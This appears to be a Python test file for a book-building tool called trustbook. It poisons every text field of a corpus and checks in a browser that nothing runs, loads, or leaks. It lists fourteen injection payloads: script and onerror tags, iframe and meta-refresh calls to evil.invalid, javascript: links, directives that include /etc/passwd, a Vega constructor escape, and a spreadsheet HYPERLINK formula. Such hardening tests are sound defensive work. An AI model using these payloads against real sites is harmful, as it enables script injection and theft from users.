"""A corpus in which every field means harm: its book shows it as text, in a real browser.

Tried are 14 attacks, in turn in every column that holds words, in the Data Package, in the texts of
the corpus and in the settings of the compendium.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from trustbook.corpus.schema import TABLES

pytestmark = pytest.mark.slow

ROOT = Path(__file__).parents[2]
CHAPTERS = ("introduction", "coding", "segments")
ATTACKS = {  # § is the number of the field
    "script": "<script>hit('§')</script>",
    "image": "<img src=x onerror=\"hit('§')\">",
    "drawing": "<svg onload=hit('§')><animate onbegin=hit('§') attributeName=x></svg>",
    "end of a script": "</script><script>hit('§')</script>",
    "end of a title": "</title></style></textarea><script>hit('§')</script>",
    "frame": "<iframe src='http://evil.invalid/§'></iframe><base href='http://evil.invalid/§'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/§'>",
    "style": "<style>@import '//evil.invalid/§';</style><link rel=stylesheet href=//evil.invalid>",
    "link": "[x](javascript:hit('§')) <a href=\"javascript:hit('§')\">x</a> <javascript:hit('§')>",
    "picture of Markdown": "![x](http://evil.invalid/§.png)",
    "directive": "{raw}`html <b onclick=hit(§)>` ```{eval-rst} .. raw:: html <script>hit('§')",
    "inclusion": "```{include} /etc/passwd ``` {download}`/etc/passwd` {{ author }} {% x %}",
    "Vega": "'); datum.constructor.constructor('hit(§)')(); (' http://evil.invalid/§",
    "formula": '=HYPERLINK("http://evil.invalid/§","§")',
}
WATCH = """
window.hits = []; window.blocked = [];
window.hit = window.alert = window.prompt = window.confirm = what => window.hits.push(what);
document.addEventListener('securitypolicyviolation', one => window.blocked.push(
  one.violatedDirective + ' ' + one.blockedURI + ' ' + one.sample));
"""
# what would run or load something, were it not text
ALIVE = """() => [...document.querySelectorAll('*')].flatMap(one => [
  ...[...one.attributes].filter(each => /^on/i.test(each.name)
      || /^\\s*(javascript|vbscript|data:text.html):?/i.test(each.value)
      && /^(href|src|xlink:href|action|formaction)$/i.test(each.name))
    .map(each => `${one.tagName} ${each.name}`),
  ...(/^(iframe|object|embed|base|portal)$/i.test(one.tagName) ? [one.tagName] : []),
  ...(one.matches('main script:not([type]), meta[http-equiv=refresh]') ? [one.tagName] : []),
])"""


def attacks():
    """The attacks, one after the other without an end, each with a number of its own."""
    for number in range(100_000):
        name = list(ATTACKS)[number % len(ATTACKS)]
        yield ATTACKS[name].replace("§", f"n{number}")


def is_of_words(table, name):
    """Whether a column holds words of which nothing but their length is checked."""
    field = TABLES[table].field(name) if name in TABLES[table].columns else None
    if field is None:
        return True
    is_free = field.type == "text" and not (field.allowed or field.references)
    return is_free and name not in (*TABLES[table].key, *EXEMPT)


EXEMPT = (  # what is looked up by these words, or compared with others
    *("measure", "arguments", "works_with", "parent", "anchor", "same_source_as", "coder"),
    *("participants", "unit", "researcher", "licence", "doi", "expected", "language"),
    *("organisation", "elsewhere", "against", "data_type", "sector", "team"),
)


def poisoned(corpus):
    """Put the attacks into every column of words; how many cells there are."""
    harm, cells = attacks(), 0
    for path in sorted(corpus.glob("*.csv")):
        frame = pd.read_csv(path, dtype="str", keep_default_na=False)
        for name in frame.columns:
            if is_of_words(path.stem, name):
                frame[name] = [next(harm) for _ in range(len(frame))]
                cells += len(frame)
        if path.stem == "cases":
            frame["own"] = [next(harm) for _ in range(len(frame))]
        frame.to_csv(path, index=False)
    package = {
        key: next(harm) for key in ("title", "question", "description", "ethics", "homepage")
    }
    package |= {
        "contributors": [{"title": next(harm), "organization": next(harm)}],
        "licenses": [{"name": next(harm), "title": next(harm), "path": "javascript:hit(1)"}],
        "keywords": [next(harm) for _ in range(5)],
    }
    (corpus / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    directive = "```{raw} html\n<script>hit(1)</script>\n```\n\n```{include} /etc/passwd\n```"
    words = "\n\n".join([*ATTACKS.values(), directive])
    (corpus / "coding.md").write_text(words, encoding="utf-8")
    return cells + 11


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    """The book of the poisoned corpus, and how many fields of it were poisoned."""
    folder = tmp_path_factory.mktemp("hostile") / "trial"
    corpus = folder / "data" / "mine"
    shutil.copytree(ROOT / "tests" / "corpora" / "clinic", corpus)
    fields = poisoned(corpus)
    for name in ("_toc.yml", "_config.yml"):
        shutil.copy(ROOT / name, folder / name)
    (folder / "parameters.yml").write_text("corpus: data/mine\n", encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "trustbook", "build", "--json", "--only", ",".join(CHAPTERS)],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3_000:]
    return Path(json.loads(done.stdout)["book"]), fields


@pytest.fixture(scope="module")
def seen(book, browser):
    """What happened on each page, by its name: what ran, was blocked, is alive, was asked for."""
    pages = sorted((book[0] / "chapters").rglob("*.html"))  # index.html leads to the first of them
    return {path.stem: looked_at(browser, path) for path in pages}


def looked_at(browser, path):
    page = browser.new_page()
    asked, dialogs = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script(WATCH)
    page.goto(path.as_uri(), wait_until="load")
    page.locator("details").evaluate_all("all => all.forEach(one => one.open = true)")
    page.locator(".tb-drawing").evaluate_all(
        "all => all.forEach(one => one.dispatchEvent(new PointerEvent('pointerenter')))"
    )
    page.wait_for_timeout(300)
    ran, blocked = page.evaluate("[window.hits, window.blocked]")
    alive = page.evaluate(ALIVE)
    page.close()
    foreign = [url for url in asked if not url.startswith(("file://", "data:", "blob:"))]
    return {"ran": ran + dialogs, "blocked": blocked, "alive": alive, "foreign": foreign}


def test_no_field_runs_anything_or_loads_anything(book, seen):
    assert book[1] > 300
    assert len(seen) >= len(CHAPTERS)
    for name, happened in seen.items():
        assert (happened["ran"], happened["foreign"]) == ([], []), name
        assert happened["alive"] == [], name


def test_the_policy_had_nothing_to_block(seen):
    """What harms is text before a browser sees it; the policy is a second wall."""
    assert {name: one["blocked"] for name, one in seen.items() if one["blocked"]} == {}


def test_what_harms_is_shown_as_the_text_that_it_is(book):
    page = (book[0] / "chapters" / "segments.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;hit(" in page
    assert not re.search(r"<script>hit\(|<img src=x", page)
    assert "root:x:0:0" not in page
